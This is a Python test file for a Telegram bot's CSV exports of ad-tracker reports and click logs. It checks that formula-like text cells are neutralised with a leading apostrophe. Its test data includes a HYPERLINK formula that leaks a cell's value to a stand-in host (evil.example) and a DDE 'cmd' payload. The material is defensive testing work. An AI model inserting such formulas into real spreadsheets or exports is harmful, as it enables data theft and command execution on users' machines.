"""CSV formula injection (issue 13, finding 3).

Cells used to be written as they came: a campaign named `=HYPERLINK(…)` became a live
formula in a spreadsheet, in the report CSV and in the streamed clicks CSV, and click-log
fields (sub ids, referrer, keyword) come from the open internet. Now a text cell starting
with `=`, `+`, `-`, `@`, tab or CR gets a leading `'`; numbers, negative ones and numeric
strings included, stay numbers.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from bot.render.csv_cells import csv_cell
from keitaro_sandbox import ManualClock, Sandbox
from telegram_fake import FakeTelegram
from tests.harness import ADMIN, API_KEY, POSTBACK_KEY, result_of, running_bot
from tests.sandbox_fixtures import NOW

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = {  # click-log fields as visitors and ad networks fill them
    "sub_id_1": "=cmd|' /C calc'!A0", "sub_id_2": "+1+1", "sub_id_3": "-2+3",
    "sub_id_4": "@SUM(1+1)", "referrer": "\t=1+1", "keyword": "\r=1+1",
}
NUMBERS = {"revenue": "-18.45", "cost": -0.5, "profit": -18, "clicks": 3, "roi": "1e2",
           "epc": 0.25, "payout": "+4", "conversions": "0"}


def _rows(count: int) -> list[dict[str, Any]]:
    return [{"click_id": f"c{n}", "campaign": FORMULA, **HOSTILE, **NUMBERS,
             "datetime": "2026-12-01 10:00:00"} for n in range(count)]


def _csv(tg: FakeTelegram, name: str) -> list[dict[str, str]]:
    message = next(m for m in reversed(tg.messages[ADMIN])
                   if m.document is not None and name in (m.document.file_name or ""))
    assert message.document is not None
    return list(csv.DictReader(io.StringIO(message.document.data.decode("utf-8-sig"),
                                           newline="")))


def _check_cells(rows: list[dict[str, str]], text_columns: dict[str, str]) -> None:
    assert rows
    for row in rows:
        for column, value in text_columns.items():
            assert row[column] == "'" + value, (column, row[column])
        for column, value in NUMBERS.items():
            assert row[column] == str(value), (column, row[column])  # as the tracker sent it


async def test_click_log_fields_are_text_in_both_click_csvs(tmp_path: Path) -> None:
    """A click log page whose fields start with every trigger: the CSV of the page (📎 CSV,
    built in memory) and the streamed export of every row (📥 All rows) neutralise them and
    keep the numbers."""
    async with running_bot(tmp_path) as h:
        for shown in (3, 3):  # the page viewed, then read again with every column for 📎 CSV
            h.sandbox.faults.add("POST", r"/clicks/log$", status=200,
                                 body={"rows": _rows(shown), "total": 6})
        h.sandbox.faults.add("POST", r"/clicks/log$", status=200,
                             body={"rows": _rows(6), "total": 6})
        sim = h.admin
        assert (await result_of(h, sim, sim.say('/clicks log 30d {"limit": 3}'))).startswith(
            "✅")
        await sim.press("📎 CSV")
        page = _csv(h.tg, ".csv")
        await sim.press("📥 All rows (CSV)", answers=2)
        await h.tg.wait_call("sendDocument", where=lambda c: c.ok and "clicks-log" in str(
            c.result), after=0)
        streamed = _csv(h.tg, "clicks-log")
    assert len(page) == 3 and len(streamed) == 6
    for rows in (page, streamed):
        _check_cells(rows, {"campaign": FORMULA, **HOSTILE})


async def test_a_formula_campaign_name_is_text_in_the_report_csv(tmp_path: Path) -> None:
    """A campaign named `=HYPERLINK(…)` in a report whose numbers come as strings (as PDO
    gives them): its name is text in the CSV, and every metric, negative ones included, is
    still a plain number."""
    sandbox = Sandbox(api_key=API_KEY, postback_key=POSTBACK_KEY, clock=ManualClock(NOW),
                      clicks=600, string_numbers=True)
    sandbox.state.campaigns[2]["name"] = FORMULA
    async with running_bot(tmp_path, sandbox=sandbox) as h:
        sim = h.admin
        assert (await result_of(h, sim, sim.say("/reports by_campaign 30d"))).startswith("✅")
        await sim.press("📎 CSV")
        rows = _csv(h.tg, ".csv")
    names = [r["campaign"] for r in rows]
    assert "'" + FORMULA in names, names
    numbers = [value for row in rows for key, value in row.items() if key != "campaign"
               and value not in ("", None)]
    assert numbers and all(float(v) == float(v) for v in numbers)  # each parses as a number
    assert any(v.startswith("-") for v in numbers), numbers  # a negative one, not prefixed


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-", "'-"), ("-inf", "'-inf"), ("+", "'+"),
    ("plain", "plain"), ("", ""), (" =1", " =1"),
    (-18.45, -18.45), (-3, -3), (0, 0), (1.5e-7, 1.5e-7), (True, True), (None, None),
    ("-18.45", "-18.45"), ("+4", "+4"), ("-1e5", "-1e5"), ("-.5", "-.5"), ("12", "12"),
    ({"a": "=1"}, '{"a": "=1"}'), (["=1"], '["=1"]'),
])
def test_a_cell_is_neutralised_only_when_it_is_text(value: Any, cell: Any) -> None:
    assert csv_cell(value) == cell


def test_column_names_are_cells_too() -> None:
    """A column named by the tracker's data is neutralised like any other cell."""
    from bot.render.data import csv_bytes

    text = csv_bytes([{"=name": "-x", "n": -1}]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [["'=name", "n"], ["'-x", "-1"]]
